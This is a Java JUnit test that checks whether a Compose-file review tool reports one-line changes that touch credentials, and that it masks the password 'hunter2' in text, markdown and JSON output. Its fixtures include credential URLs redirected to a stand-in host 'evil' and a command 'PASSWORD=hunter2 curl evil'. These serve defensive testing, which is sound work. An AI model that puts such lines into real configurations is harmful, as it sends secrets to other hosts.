package dev.c2ecs.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Locale;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What only the Compose file tells: the texts around credentials, their sources, acceptances. */
class ReviewWrittenTest {

  private static final String PATH = System.getenv().getOrDefault("PATH", "");

  @TempDir private Path temporary;

  /** Of a change of one line of a service or of the project, whether a variable is set or not. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          environment: {U: "https://u:${TOK_PASSWORD}@good"} | environment: {U: "https://u:${TOK_PASSWORD}@evil"} | https://u:${TOK_PASSWORD}@evil
          environment: ["U=p://${PGUSER:-app}:${DB_PASSWORD}@db"] | environment: ["U=p://${PGUSER:-root}:${DB_PASSWORD}@db"] | p://${PGUSER:-root}:${DB_PASSWORD}@db
          environment: {P: "${DB_PASSWORD:-hunter2a}"} | environment: {P: "${DB_PASSWORD:-hunter2b}"} | another default
          environment: {D: "postgres://a:hunter2@db/x"} | environment: {D: "postgres://a:hunter2@evil/x"} | postgres://a:***@evil/x
          command: ["run", "PASSWORD=hunter2 curl good"] | command: ["run", "PASSWORD=hunter2 curl evil"] | PASSWORD=*** curl evil
          secrets: [one] | secrets: [one] #2 | comes from another variable BBB
          secrets: [two] | secrets: [two] #2 | another secret of the account, a → prod/b
          user: "1" | `user: "1"\n    x-aws-accept: {C2E209: fine}` | C2E209 of api
          """)
  void aChangeIsTold(String old, String now, String told) throws IOException {
    Path directory = Files.createDirectory(temporary.toRealPath().resolve("shop"));
    Path file = directory.resolve("compose.yaml");
    Files.writeString(file, compose(old, "AAA", "a"));
    GitRepository repository = GitRepository.in(directory);
    repository.run("add", "-A").run("commit", "-qm", "1");
    boolean other = now.endsWith("#2");
    Files.writeString(
        file, compose(now.replace("\\n", "\n"), other ? "BBB" : "AAA", other ? "prod/b" : "a"));
    for (String format : new String[] {"text", "markdown", "json"}) {
      Program.Result result =
          Program.in(directory).env("PATH", PATH).run("diff", "--exit-code", "--format", format);
      assertThat(result.exitCode()).as(result.err()).isEqualTo(3);
      assertThat(result.out()).doesNotContain("hunter2");
      String said = result.out().replace("\\", "").replaceAll("\\s+", " ").replace("`", "");
      if (!format.equals("json") || told.indexOf('→') < 0) {
        assertThat(said.toLowerCase(Locale.ROOT))
            .contains(
                format.equals("json") && told.startsWith("another default")
                    ? "default"
                    : format.equals("json") && told.startsWith("C2E209")
                        ? "c2e209"
                        : told.toLowerCase(Locale.ROOT));
      }
    }
  }

  private static String compose(String line, String variable, String secret) {
    return """
    name: shop
    services:
      api:
        image: example/api:1
        %s
    secrets:
      one: {environment: %s}
      two: {external: true, name: %s}
    """
        .formatted(line, variable, secret);
  }
}
